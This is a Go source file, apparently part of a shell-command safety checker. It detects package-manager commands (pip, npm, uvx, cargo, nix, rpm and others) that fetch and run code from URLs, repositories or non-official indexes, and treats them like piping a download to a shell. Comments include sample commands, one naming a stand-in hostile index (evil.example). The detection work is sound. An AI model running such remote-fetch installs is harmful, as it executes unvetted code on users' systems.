package hardline

import (
	"regexp"
	"slices"
	"strings"
)

// packageVerbs are, per package manager or runner, the sub-commands that
// install a package (false: every operand is a package specifier) or run
// one (true: the first operand is, the rest are the program's arguments);
// a runner that is a program of its own (npx, uvx, bunx, pnpx) lists "".
// npm reads any unambiguous prefix of install and a few misspellings.
var packageVerbs = map[string]map[string]bool{
	"pip": {"install": false}, "pip3": {"install": false}, "pipx": {"install": false, "inject": false, "run": true},
	"uv": {"pip": false, "add": false, "run": true, "tool": false}, "uvx": {"": true},
	"npm": {"install": false, "i": false, "in": false, "ins": false, "inst": false, "insta": false, "instal": false,
		"isnt": false, "isnta": false, "isntal": false, "isntall": false, "install-test": false, "it": false, "add": false,
		"update": false, "up": false, "upgrade": false, "udpate": false, "exec": true, "x": true},
	"npx":  {"": true},
	"pnpm": {"add": false, "install": false, "i": false, "update": false, "up": false, "upgrade": false, "dlx": true, "exec": true}, "pnpx": {"": true},
	"yarn": {"add": false, "global": false, "up": false, "upgrade": false, "dlx": true},
	"bun":  {"add": false, "install": false, "i": false, "update": false, "x": true}, "bunx": {"": true},
	"cargo": {"install": false}, "brew": {"install": false, "reinstall": false}, "poetry": {"add": false}, "pdm": {"add": false},
	"rye": {"add": false, "install": false}, "pipenv": {"install": false}, "conda": {"install": false}, "mamba": {"install": false},
	"gem": {"install": false},
	// Extensions and plugins, which their tool runs later as programs:
	// gh's come from a repository (OWNER/REPO), helm's, asdf's and mise's
	// from the URL given, az's from --source, vagrant's from
	// --plugin-source.
	"gh": {"extension": false, "ext": false}, "helm": {"plugin": false}, "asdf": {"plugin": false},
	"mise": {"plugin": false, "plugins": false}, "rtx": {"plugin": false, "plugins": false},
	"az": {"extension": false}, "vagrant": {"plugin": false},
	// pre-commit try-repo REPO runs the hooks of the repository given.
	"pre-commit": {"try-repo": false},
	// nix run, shell, develop and profile install a flake named by where
	// it is fetched from (github:OWNER/REPO, git+https://..., a tarball's
	// URL) build and run its code; nixpkgs by its registry name or its
	// own repository is the ordinary case.
	"nix": {"run": true, "shell": false, "develop": true, "profile": false},
}

// installSecondWords are the verbs whose second word says whether the
// line installs (extension install, plugin add) or does something else.
var installSecondWords = map[string]bool{"extension": true, "ext": true, "plugin": true, "plugins": true, "profile": true}

// packageSpecOptions are the options whose value is a package specifier
// (pip install -e URL, uvx --from URL, cargo install --git URL, npx -p
// PKG); -p is one for npm and its kin only (uv's -p is --python).
var packageSpecOptions = []string{"-e", "--editable", "--with-editable", "--from", "--with", "--git", "--spec", "-p", "--package"}

// packageValueOptions are the options of the package managers, before or
// after the sub-command, that take a value that is no package: a folder,
// a workspace, an interpreter's version, an index or registry, a proxy or
// a certificate (what these store, or a source given for every install,
// is judged as a package source elsewhere), npm's by npmValueOptions.
var (
	npmValueOptions = []string{"--prefix", "-C", "--dir", "--cwd", "--workspace", "-w", "--filter", "-F", "--userconfig",
		"--globalconfig", "--cache", "--loglevel", "--tag", "--otp", "--registry", "--script-shell", "--omit", "--include"}
	packageValueOptions = []string{"-i", "--index-url", "--extra-index-url", "--index", "--default-index", "-f", "--find-links",
		"--trusted-host", "--proxy", "--cert", "--client-cert", "--registry", "--source", "--plugin-source",
		"--python", "-p", "--python-version", "--directory", "--project", "--config-file", "--cache-dir", "--env-file",
		"--with-requirements", "-c", "--constraint", "--log", "--target", "-t", "--root", "--prefix",
		"--src", "--platform", "--extra", "--group", "--timeout", "--retries", "-C", "--config", "-Z", "--branch", "--tag",
		"--rev", "--features", "-F", "-j", "--jobs", "--bin", "--example", "--profile", "--target-dir", "--version", "--vers"}
)

// oneOffIndexOptions name, for one command, the index or registry its
// packages are fetched from: one that is not an official registry
// (officialSources) makes the install fetch code from that host (npm's
// --registry too; pip's -i, --index-url, --extra-index-url and
// --find-links, uv's --index and --default-index, gem's --source).
var oneOffIndexOptions = []string{"-i", "--index-url", "--extra-index-url", "--index", "--default-index", "-f", "--find-links", "--registry", "--source", "--plugin-source"}

// officialIndex reports whether an index given for one command is an
// official registry (officialSources) or PyTorch's own wheel index, which
// its install instructions name (pip install torch --index-url
// https://download.pytorch.org/whl/cu121).
func officialIndex(v string) bool {
	l := asciiLower(strings.Trim(v, `'"`))
	return officialSource(v) || slices.ContainsFunc(officialPrefixes, func(p string) bool { return strings.HasPrefix(l, p) })
}

// officialPrefixes start the URLs of official sources given for one
// command that are named by a path below their host: PyTorch's wheel
// index (pip install torch --index-url https://download.pytorch.org/whl/cu121),
// Alpine's repositories (apk add --repository
// https://dl-cdn.alpinelinux.org/alpine/edge/testing), and nixpkgs itself
// (nix run github:NixOS/nixpkgs/nixos-unstable#hello).
var officialPrefixes = []string{"https://download.pytorch.org/whl", "https://dl-cdn.alpinelinux.org/alpine/", "http://dl-cdn.alpinelinux.org/alpine/",
	"https://conda.anaconda.org/", "https://repo.anaconda.com/",
	"github:nixos/nixpkgs", "https://github.com/nixos/nixpkgs/"}

// githubShorthand is npm's, yarn's and bun's USER/REPO (with #REF), which
// they fetch from GitHub; a scoped package (@scope/name) and a path (./x,
// ../x, /x, ~/x) are not one.
var githubShorthand = regexp.MustCompile(`^[A-Za-z0-9_][A-Za-z0-9_.-]*/[A-Za-z0-9_.-]+(?:#\S*)?$`)

// remotePackage judges a package manager told to install or run a package
// fetched from a URL or a repository (pip install git+https://..., npx
// https://host/pkg.tgz, uvx --from git+..., cargo install --git URL, npm
// install USER/REPO, brew install https://host/formula.rb): its install
// scripts, build steps or program run as it starts, from a host that is
// not a package registry, as curl URL | sh runs what it fetched; the call
// asks (pipe-to-shell). A package named in a registry is the ordinary
// case and is allowed.
func (r *run) remotePackage(b string, args []field, cmd string) {
	verbs, ok := packageVerbs[b]
	if !ok {
		r.remoteInstall(b, args, cmd)
		return
	}
	npmLike := b == "npm" || b == "npx" || b == "pnpm" || b == "pnpx" || b == "yarn" || b == "bun" || b == "bunx" || b == "gh" // (gh's extensions are OWNER/REPO)
	spec := func(o string) bool { return slices.Contains(packageSpecOptions, o) && (npmLike || o != "-p") }
	value := func(o string) bool {
		if npmLike {
			return slices.Contains(npmValueOptions, o)
		}
		return slices.Contains(packageValueOptions, o)
	}
	// next returns the index of the first word from i on that is neither
	// an option, the value of one, nor a toolchain (cargo +nightly).
	next := func(i int) int {
		for ; i < len(args); i++ {
			v := args[i].val
			switch {
			case args[i].dyn:
				return i
			case strings.HasPrefix(v, "-"):
				if value(v) && i+1 < len(args) {
					i++
				}
			case strings.HasPrefix(v, "+") && b == "cargo":
			default:
				return i
			}
		}
		return i
	}
	i := 0
	runner, whole := verbs[""]
	if !whole {
		i = next(0)
		if i == len(args) || args[i].dyn {
			return
		}
		verb := args[i].val
		if runner, ok = verbs[verb]; !ok {
			return
		}
		i++
		if verb == "tool" || verb == "pip" || verb == "global" {
			// uv tool run|install, uv pip install, yarn global add: the
			// second word says which.
			if i = next(i); i == len(args) || args[i].dyn {
				return
			}
			runner = args[i].val == "run"
			i++
		}
		if installSecondWords[verb] {
			// gh extension install, helm plugin install, asdf plugin add:
			// only an install fetches one.
			if i = next(i); i == len(args) || args[i].dyn || args[i].val != "install" && args[i].val != "add" {
				return
			}
			i++
		}
	}
	for j := i; j < len(args); j++ {
		f := args[j]
		if f.dyn {
			continue
		}
		v := f.val
		if b == "nix" && (v == "-c" || v == "--command" || v == "--") {
			return // nix shell FLAKE... -c CMD: the rest is the command
		}
		if strings.HasPrefix(v, "-") {
			name, val, eq := strings.Cut(v, "=")
			if eq && (spec(name) && remoteSpec(val, npmLike) ||
				slices.Contains(oneOffIndexOptions, name) && strings.Contains(val, "://") && !officialIndex(val)) {
				r.remoteFinding(b, val, cmd)
				return
			}
			continue
		}
		prev := ""
		if j > i {
			prev = args[j-1].val
		}
		isSpec := spec(prev)
		if slices.Contains(oneOffIndexOptions, prev) && strings.Contains(v, "://") && !officialIndex(v) {
			// pip install -i https://evil.example/simple x fetches x
			// from that index for this install.
			r.remoteFinding(b, v, cmd)
			return
		}
		if !isSpec && value(prev) {
			continue // an option's value (--python 3.12, -w packages/api, --index-url URL)
		}
		if remoteSpec(v, npmLike) && !(b == "nix" && officialIndex(v)) {
			r.remoteFinding(b, v, cmd)
			return
		}
		if runner && !isSpec {
			return // the package a runner runs; the rest are its program's
		}
	}
}

// remoteInstall judges the installers whose grammar packageVerbs does not
// describe (a system's package manager, an installer of its own format:
// rpm -i, dnf and yum install, zypper in, pacman -U, apk add, flatpak
// install, msiexec /i, scoop install, choco install -s URL) given a
// package, or the repository it comes from, by a URL: the package's
// scripts run as it is installed, often as root, from a host that is not
// a package registry, and the call asks (pipe-to-shell). Which words are
// the packages is not read: a word that is a URL (http, https, ftp) other
// than an official registry is one, and so is a URL after an option's =
// or a list's comma when it names a package file (--setopt=x=URL/a.rpm)
// or the option gives a source for this install (dnf --repofrompath
// ID,URL, choco --source=URL). A package by its name in the system's
// repositories is the ordinary case and is allowed.
func (r *run) remoteInstall(b string, args []field, cmd string) {
	if !packageInstallers[b] {
		return
	}
	for i, a := range args {
		// A word partly known is judged by what is known of it (a URL
		// with a variable in its path is still a URL).
		source := i > 0 && installerSourceOption(args[i-1].val)
		if u, ok := installerURL(a.val, source); ok {
			r.remoteFinding(b, u, cmd)
			return
		}
	}
}

// installerSourceOption reports whether an installer's option gives the
// repository or index this install fetches from.
func installerSourceOption(o string) bool {
	return o == "--repofrompath" || slices.Contains(oneOffIndexOptions, o)
}

// installerURL returns the URL an installer's word names as a package or
// a source fetched from another host (see remoteInstall): the word itself
// when it is a URL, or the part after its last = or comma when that is a
// URL naming a package file, or when source (the word is a source
// option's value) or the option before the = gives a source. An official
// registry is none.
func installerURL(v string, source bool) (string, bool) {
	web := func(u string) bool {
		l := asciiLower(u)
		return strings.HasPrefix(l, "http://") || strings.HasPrefix(l, "https://") || strings.HasPrefix(l, "ftp://") || strings.HasPrefix(l, "ftps://")
	}
	u := v
	if !web(v) {
		// The URL's own query may hold = and commas: the split is the
		// last one before its scheme.
		j := strings.Index(v, "://")
		i := strings.LastIndexAny(v[:max(j, 0)], "=,")
		if i < 0 || !web(v[i+1:]) {
			return "", false
		}
		u = v[i+1:]
		name, _, _ := strings.Cut(v, "=")
		plain, _, _ := strings.Cut(u, "?")
		if _, pkg := packageFile(plain); !pkg && !source && !installerSourceOption(name) {
			return "", false
		}
	}
	return u, !officialIndex(u)
}

func (r *run) remoteFinding(b, spec, cmd string) {
	r.finding(rulePipeToShell, Dynamic, Ask, b+" installs or runs the package at "+spec+", fetched from a host that is not a package registry: what it runs cannot be known before it runs", cmd, "")
}

// remoteSpec reports whether a package specifier names a package by where
// it is fetched from rather than by its name in a registry: a URL, a
// version-control reference, a PEP 508 direct reference (NAME @ URL), and
// for npm and its kin a host shorthand (github:USER/REPO) or USER/REPO.
func remoteSpec(v string, npmLike bool) bool {
	l := asciiLower(v)
	for _, p := range []string{"http://", "https://", "git+", "git://", "ssh://", "git@", "hg+", "svn+", "bzr+", "ftp://",
		"github:", "gitlab:", "bitbucket:", "gist:", "sourcehut:", "tarball+", "file+http"} {
		if strings.HasPrefix(l, p) {
			return true
		}
	}
	if _, ref, ok := strings.Cut(l, "@"); ok && strings.Contains(ref, "://") {
		return true // NAME @ https://..., NAME@git+https://...
	}
	return npmLike && githubShorthand.MatchString(v)
}

// indexEnv are the environment variables by which a package manager takes,
// for the command it runs, the index, registry or module proxy it fetches
// code from, or whether it checks what it fetched, by the manager's name
// (npm's npm_config_ variables are read in any case; a name ending in _
// stands for every name it starts, CARGO_REGISTRIES_NAME_INDEX).
var indexEnv = map[string][]string{
	"pip":    {"PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "PIP_TRUSTED_HOST"},
	"uv":     {"UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "UV_INDEX", "UV_DEFAULT_INDEX", "UV_FIND_LINKS", "UV_INSECURE_HOST"},
	"npm":    {"npm_config_registry", "npm_config_strict_ssl"},
	"yarn":   {"YARN_NPM_REGISTRY_SERVER", "YARN_REGISTRY", "npm_config_registry", "YARN_UNSAFE_HTTP_WHITELIST"},
	"bun":    {"BUN_CONFIG_REGISTRY", "npm_config_registry"},
	"go":     {"GOPROXY", "GOSUMDB", "GOINSECURE", "GONOSUMDB", "GONOSUMCHECK", "GOPRIVATE", "GONOPROXY"},
	"cargo":  {"CARGO_REGISTRIES_", "CARGO_SOURCE_", "CARGO_HTTP_CHECK_REVOKE"},
	"poetry": {"POETRY_REPOSITORIES_", "POETRY_SOURCE_"},
	"conda":  {"CONDA_CHANNELS", "CONDA_CHANNEL_ALIAS"},
	"gem":    {"GEM_SOURCE"},
	"bundle": {"BUNDLE_MIRROR__"},
}

// indexFamily maps a package manager's other names to indexEnv's key.
var indexFamily = map[string]string{"pip3": "pip", "uvx": "uv", "npx": "npm", "pnpm": "npm", "pnpx": "npm", "bunx": "bun",
	"mamba": "conda", "micromamba": "conda", "bundler": "bundle"}

// indexFromEnv judges a package manager run with an index, registry or
// proxy given by the environment (PIP_INDEX_URL=URL pip install x,
// GOPROXY=URL go build, npm_config_registry=URL npm ci): as the same
// source given by an option does (remotePackage), one that is not an
// official registry makes the command fetch code from that host, which
// runs as it is installed, built or tested, and the call asks
// (pipe-to-shell). A checksum database switched off or a host trusted
// without TLS is judged as such a source. The variable may be set on the
// command, by env, or earlier in the script.
func (r *run) indexFromEnv(sc *scope, b string, c ctx, cmd string) {
	fam := b
	if f, ok := indexFamily[b]; ok {
		fam = f
	}
	names := indexEnv[fam]
	if len(names) == 0 {
		return
	}
	judge := func(name string, f field) bool {
		if f.dyn {
			r.finding(rulePipeToShell, Dynamic, Ask, b+" fetches code from the source "+name+" names, which comes from "+f.why, cmd, "")
			return true
		}
		v := strings.TrimSpace(f.val)
		switch {
		case v == "":
			return false
		case fam == "go":
			if !goSource(name, v) {
				return false
			}
		case strings.HasSuffix(asciiLower(name), "strict_ssl") || strings.HasSuffix(name, "CHECK_REVOKE"):
			if v != "false" && v != "0" {
				return false
			}
		case officialIndex(v):
			return false
		}
		r.finding(rulePipeToShell, Dynamic, Ask, b+" fetches code from "+bound(v)+" ("+name+"), which is not a package registry it uses by default", cmd, "")
		return true
	}
	var assigned []string // envNames, made once when a name needs them
	for _, name := range names {
		var match func(string) bool
		switch {
		case strings.HasSuffix(name, "_"): // every name it starts
			match = func(n string) bool { return strings.HasPrefix(n, name) }
		case strings.HasPrefix(name, "npm_config_"): // npm reads its variables in any case
			match = func(n string) bool { return strings.EqualFold(n, name) }
		default:
			if f, ok := r.envFolder(sc, name, c.pos); ok && judge(name, f) {
				return
			}
			continue
		}
		if assigned == nil {
			assigned = r.envNames(sc)
		}
		for _, n := range assigned {
			if !match(n) {
				continue
			}
			if f, ok := r.envFolder(sc, n, c.pos); ok && judge(n, f) {
				return
			}
		}
	}
}

// envNames returns the names of the variables the command or the script
// before it gives a value (the command's own assignments, env's words,
// the script's variables), sorted.
func (r *run) envNames(sc *scope) []string {
	var out []string
	add := func(n string) {
		if !slices.Contains(out, n) {
			out = append(out, n)
		}
	}
	for _, w := range r.calls.envWords {
		n, _, _ := strings.Cut(w.val, "=")
		add(n)
	}
	if r.cmdCall != nil {
		for _, as := range r.cmdCall.Assigns {
			if as.Name != nil {
				add(as.Name.Value)
			}
		}
	}
	for n := range sc.vars {
		add(n)
	}
	slices.Sort(out)
	return out
}
